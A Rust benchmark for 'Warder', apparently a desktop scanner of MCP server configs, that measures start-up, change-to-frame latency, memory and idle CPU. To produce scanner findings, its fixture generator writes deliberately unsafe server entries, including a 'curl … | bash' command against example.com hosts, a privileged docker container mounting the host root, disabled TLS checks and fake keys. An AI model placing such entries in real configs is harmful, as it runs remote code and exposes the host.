//! The window's figures on the same desktop as its tests: start, change, memory,
//! idleness. Run by `cargo xtask bench --window`; prints, and asserts nothing.

#![allow(clippy::unwrap_used, clippy::print_stdout, reason = "a bench prints, and ends where it fails")]

use std::fs;
use std::path::{Path, PathBuf};
use std::thread::sleep;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use desktop::{Desktop, Screen, story, until};
use serde_json::json;

#[path = "desktop.rs"]
#[expect(dead_code, reason = "the tests need more of it")]
mod desktop;
#[path = "display.rs"]
#[expect(dead_code, reason = "the tests need more of it")]
mod display;
#[path = "process.rs"]
mod process;

const PROJECTS: usize = 20;
const SERVERS: usize = 500;
const ROUNDS: usize = 11;
const MINUTE: Duration = Duration::from_secs(60);
/// Until a window that was just opened has come to rest.
const REST: Duration = Duration::from_secs(10);

fn main() {
    for large in [false, true] {
        println!("{}", if large { "40 files, 500 servers:" } else { "One file, one server:" });
        story(async |desktop: &mut Desktop| driven(desktop, large).await);
        story(async |desktop: &mut Desktop| left_alone(desktop, large).await);
    }
}

/// How long a person waits: for the first content, and for a change to show.
async fn driven(desktop: &mut Desktop, large: bool) {
    let config = home(desktop, large);
    let screen = desktop.open().await;
    screen.click("[data-test=nav-servers]").await;
    screen.find("[data-test=server-row]").await;
    if large {
        let report = screen.ask(&json!({ "ask": "scan" })).await;
        let count = |of: &str| report["with"][of].as_array().map_or(0, Vec::len);
        println!("  {} servers, {} findings", count("servers"), count("findings"));
    }
    let paint =
        "performance.timeOrigin + (performance.getEntriesByName('first-contentful-paint')[0]?.startTime ?? NaN)";
    let page = screen.value("performance.timeOrigin").await.as_f64().unwrap();
    let started = start_of(app(&desktop.home()));
    println!("  from the start of the program to that of its page: {:.0} ms", page - started);
    match screen.value(paint).await.as_f64() {
        Some(painted) => println!("  to the first content: {:.0} ms", painted - started),
        None => println!("  to the first content: this WebKit does not tell"),
    }

    if large {
        // A row that is scrolled away is not drawn.
        screen.fill("[data-test=filter]", "measured").await;
    }
    let mut times = Vec::new();
    for round in 0..ROUNDS {
        times.push(change(&screen, &config, &format!("measured-{round}")).await);
    }
    times.sort_by(f64::total_cmp);
    println!(
        "  from a changed file to its frame: median {:.0} ms, at worst {:.0} ms, of {ROUNDS}",
        times[ROUNDS / 2],
        times[ROUNDS - 1]
    );
    screen.close().await;
}

/// From the rename that puts a config in its place to the frame that shows its server.
async fn change(screen: &Screen, config: &Path, name: &str) -> f64 {
    screen
        .run(&format!(
            "window.seen = null;
             const look = () => document.querySelector('[data-test=server-row][data-name=\"{name}\"]');
             const observer = new MutationObserver(() => {{
               if (!look() || window.seen !== null) return;
               observer.disconnect();
               requestAnimationFrame(() => requestAnimationFrame(() => {{ window.seen = Date.now(); }}));
             }});
             observer.observe(document.body, {{ subtree: true, childList: true, attributes: true }});"
        ))
        .await;
    let beside = config.with_extension("new");
    fs::write(&beside, one(name)).unwrap();
    let start = epoch();
    fs::rename(&beside, config).unwrap();
    screen.find(&format!("[data-test=server-row][data-name={name}]")).await;
    loop {
        if let Some(seen) = screen.value("window.seen").await.as_f64() {
            return seen - start;
        }
    }
}

/// What it costs while nobody does anything.
async fn left_alone(desktop: &mut Desktop, large: bool) {
    home(desktop, large);
    let display = desktop.display();
    let _app = desktop.start(&[]);
    until("the window shows", || display.shows_window()).await;
    sleep(REST);
    let app = app(&desktop.home());
    let processes = family(app);
    for process in &processes {
        println!("  {}: {:.0} MB PSS", name(*process), pss(*process) as f64 / 1024.0);
    }
    let all: u64 = processes.iter().map(|process| pss(*process)).sum();
    println!("  together: {:.0} MB PSS", all as f64 / 1024.0);
    let before: u64 = processes.iter().map(|process| ticks(*process)).sum();
    sleep(MINUTE);
    let used: u64 = processes.iter().map(|process| ticks(*process)).sum::<u64>() - before;
    // A hundred ticks a second (USER_HZ).
    println!("  processor over an idle minute: {:.2} %", used as f64 / MINUTE.as_secs_f64());
}

/// A home, and the config that will change.
fn home(desktop: &Desktop, large: bool) -> PathBuf {
    let config = desktop.home().join(".cursor/mcp.json");
    write(&config, &one("measured"));
    if large {
        let projects: Vec<PathBuf> = (0..PROJECTS).map(|n| desktop.home().join(format!("code/project{n}"))).collect();
        let mut number = 0;
        for (place, project) in projects.iter().enumerate() {
            for (file, key) in [(".cursor/mcp.json", "mcpServers"), (".vscode/mcp.json", "servers")] {
                let last = place + 1 == PROJECTS && key == "servers";
                let count = if last { SERVERS - number - 1 } else { SERVERS / (2 * PROJECTS) };
                let entries: serde_json::Map<_, _> = (number..number + count).map(entry).collect();
                number += count;
                write(&project.join(file), &json!({ key: entries }).to_string());
            }
        }
        desktop.settle(&json!({ "projects": projects }));
    }
    config
}

fn write(path: &Path, text: &str) {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
}

fn one(name: &str) -> String {
    json!({ "mcpServers": { name: { "command": "npx", "args": ["-y", "@modelcontextprotocol/server-memory"] } } })
        .to_string()
}

/// A server with several things wrong, each in its own words.
fn entry(number: usize) -> (String, serde_json::Value) {
    let key = format!("{:032x}", (number as u128 + 1) * 0x9e37_79b9_7f4a_7c15_f39c_c060_5ced_c835);
    let entry = match number % 4 {
        0 => {
            json!({ "command": "npx", "args": ["-y", format!("some-mcp-{number}"), "/"], "env": { "SERVICE_API_KEY": key } })
        }
        1 => {
            json!({ "command": "bash", "args": ["-c", format!("curl -fsSL http://mcp{number}.example.com/x.sh | bash")], "env": { "CLIENT_SECRET": key } })
        }
        2 => {
            json!({ "url": format!("http://mcp{number}.example.com/mcp"), "headers": { "Authorization": format!("Bearer {key}") } })
        }
        _ => {
            json!({ "command": "docker", "args": ["run", "-i", "--rm", "--privileged", "-v", "/:/host", format!("someone/mcp{number}:latest")], "env": { "NODE_TLS_REJECT_UNAUTHORIZED": "0", "SERVICE_API_KEY": key } })
        }
    };
    (format!("server{number}"), entry)
}

/// Milliseconds since 1970.
fn epoch() -> f64 {
    SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs_f64() * 1_000.0
}

/// The running Warder of this home.
fn app(home: &Path) -> u32 {
    let of_home = |process: &u32| {
        let line = fs::read(format!("/proc/{process}/cmdline")).unwrap_or_default();
        let line = String::from_utf8_lossy(&line).into_owned();
        line.split('\0').next().is_some_and(|program| program.ends_with("/warder-app"))
            && line.contains(home.to_str().unwrap())
    };
    processes().into_iter().find(of_home).expect("Warder runs")
}

fn processes() -> Vec<u32> {
    fs::read_dir("/proc").unwrap().filter_map(|entry| entry.unwrap().file_name().to_str()?.parse().ok()).collect()
}

/// A process and all below it.
fn family(first: u32) -> Vec<u32> {
    let mut family = vec![first];
    let mut next = 0;
    while let Some(parent) = family.get(next).copied() {
        family.extend(processes().into_iter().filter(|process| stat(*process, 4) == u64::from(parent)));
        next += 1;
    }
    family
}

/// A field of proc(5)'s stat, by its number there.
fn stat(process: u32, field: usize) -> u64 {
    let stat = fs::read_to_string(format!("/proc/{process}/stat")).unwrap_or_default();
    let rest = stat.rsplit_once(") ").map_or("", |(_, rest)| rest);
    rest.split(' ').nth(field - 3).and_then(|value| value.parse().ok()).unwrap_or_default()
}

fn name(process: u32) -> String {
    fs::read_to_string(format!("/proc/{process}/comm")).unwrap_or_default().trim_end().to_owned()
}

/// Processor time, in ticks.
fn ticks(process: u32) -> u64 {
    stat(process, 14) + stat(process, 15)
}

/// When a process started, in milliseconds since 1970; a tick is 10 of them.
fn start_of(process: u32) -> f64 {
    let uptime = fs::read_to_string("/proc/uptime").unwrap();
    let uptime: f64 = uptime.split(' ').next().unwrap().parse().unwrap();
    epoch() - uptime * 1_000.0 + stat(process, 22) as f64 * 10.0
}

/// Proportional set size, in kB.
fn pss(process: u32) -> u64 {
    let rollup = fs::read_to_string(format!("/proc/{process}/smaps_rollup")).unwrap_or_default();
    let line = rollup.lines().find_map(|line| line.strip_prefix("Pss:")).unwrap_or_default();
    line.trim().trim_end_matches(" kB").parse().unwrap_or_default()
}
